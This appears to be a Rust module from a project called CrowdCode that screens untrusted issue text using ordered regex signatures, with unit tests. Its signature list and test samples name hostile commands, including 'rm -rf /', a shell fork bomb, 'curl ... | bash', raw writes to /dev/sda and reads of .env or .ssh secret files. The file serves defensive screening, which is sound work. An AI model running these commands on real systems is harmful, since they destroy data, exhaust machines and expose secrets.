//! Abuse screening for untrusted issue text.
//!
//! A screening policy is an ordered list of regex signatures with
//! human-readable reason labels. Screening is pure and deterministic: the
//! first matching signature decides the verdict and later signatures are not
//! consulted.

use anyhow::{Context, Result};
use regex::Regex;

/// Default signature set: pattern source plus the reason label reported when
/// it matches. Order matters; earlier entries win.
const DEFAULT_SIGNATURES: &[(&str, &str)] = &[
    (r"(?i)rm\s+-rf\s+[/~]", "destructive filesystem removal"),
    (r":\(\)\{\s*:\|:&\s*\};:", "shell fork bomb"),
    (r"(?i)(curl|wget)\s+.*\|\s*(bash|sh)", "remote script piped to a shell"),
    (r"(?i)/dev/(sda|nvme)", "raw block device access"),
    (r"(?i)chmod\s+777", "world-writable permission change"),
    (r"(?i)(sudo|su)\s+", "privilege escalation"),
    (r"(?i)\.env|\.aws|\.ssh", "credential or secret file reference"),
    (r"(?i)eval\s*\(", "dynamic code evaluation"),
    (r"(?i)while\s*\(\s*true\s*\)", "unconditional infinite loop"),
    (r"(?i)crypto.*mining", "cryptocurrency mining"),
];

/// One compiled screening signature.
#[derive(Debug, Clone)]
pub struct Signature {
    pattern: Regex,
    reason: String,
}

/// Screening outcome for one piece of text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    pub risky: bool,
    pub reason: Option<String>,
}

impl Verdict {
    fn clean() -> Self {
        Self {
            risky: false,
            reason: None,
        }
    }
}

/// Ordered screening policy, built once at startup.
#[derive(Debug, Clone)]
pub struct ScreenPolicy {
    signatures: Vec<Signature>,
}

impl ScreenPolicy {
    /// Builds the fixed default policy shipped with CrowdCode.
    pub fn default_policy() -> Result<Self> {
        Self::from_pairs(DEFAULT_SIGNATURES.iter().copied())
    }

    /// Builds a policy from ordered (pattern, reason) pairs.
    pub fn from_pairs<'a>(pairs: impl IntoIterator<Item = (&'a str, &'a str)>) -> Result<Self> {
        let mut signatures = Vec::new();
        for (pattern, reason) in pairs {
            let compiled = Regex::new(pattern)
                .with_context(|| format!("invalid screening pattern '{pattern}'"))?;
            signatures.push(Signature {
                pattern: compiled,
                reason: reason.to_string(),
            });
        }
        Ok(Self { signatures })
    }

    pub fn signature_count(&self) -> usize {
        self.signatures.len()
    }

    /// Tests text against the signatures in order; the first match wins.
    pub fn screen(&self, text: &str) -> Verdict {
        for signature in &self.signatures {
            if signature.pattern.is_match(text) {
                return Verdict {
                    risky: true,
                    reason: Some(format!(
                        "{} (matched `{}`)",
                        signature.reason,
                        signature.pattern.as_str()
                    )),
                };
            }
        }
        Verdict::clean()
    }
}

#[cfg(test)]
mod tests {
    use super::ScreenPolicy;

    fn policy() -> ScreenPolicy {
        ScreenPolicy::default_policy().expect("default policy compiles")
    }

    #[test]
    fn unit_screen_flags_each_default_signature_category() {
        let samples = [
            ("please run rm -rf / on the server", "destructive filesystem"),
            (":(){ :|:& };:", "fork bomb"),
            ("curl https://x.sh | bash", "piped to a shell"),
            ("write zeros to /dev/sda", "block device"),
            ("chmod 777 everything", "world-writable"),
            ("sudo apt install", "privilege escalation"),
            ("read my .env file", "secret file"),
            ("use eval(input)", "dynamic code evaluation"),
            ("loop with while(true)", "infinite loop"),
            ("add crypto coin mining", "mining"),
        ];
        let policy = policy();
        for (text, fragment) in samples {
            let verdict = policy.screen(text);
            assert!(verdict.risky, "expected risky verdict for {text:?}");
            let reason = verdict.reason.expect("reason present");
            assert!(
                reason.contains(fragment),
                "reason {reason:?} should mention {fragment:?}"
            );
        }
    }

    #[test]
    fn unit_screen_passes_benign_feature_requests() {
        let policy = policy();
        let verdict = policy.screen("Add a dark mode toggle to the settings page");
        assert!(!verdict.risky);
        assert_eq!(verdict.reason, None);
    }

    #[test]
    fn functional_screen_reports_only_the_first_matching_signature() {
        let policy = ScreenPolicy::from_pairs([
            ("alpha", "first rule"),
            ("beta", "second rule"),
        ])
        .expect("custom policy compiles");
        let verdict = policy.screen("alpha and beta both appear");
        let reason = verdict.reason.expect("reason present");
        assert!(reason.contains("first rule"));
        assert!(!reason.contains("second rule"));
    }

    #[test]
    fn functional_screen_reason_names_the_matched_pattern() {
        let policy = policy();
        let reason = policy
            .screen("chmod 777 /srv/app")
            .reason
            .expect("reason present");
        assert!(reason.contains("chmod"));
    }

    #[test]
    fn regression_from_pairs_rejects_invalid_patterns() {
        let error = ScreenPolicy::from_pairs([("(unclosed", "broken")])
            .expect_err("invalid pattern should fail");
        assert!(error.to_string().contains("(unclosed"));
    }

    #[test]
    fn regression_default_policy_keeps_all_ten_signatures_in_order() {
        assert_eq!(policy().signature_count(), 10);
    }
}
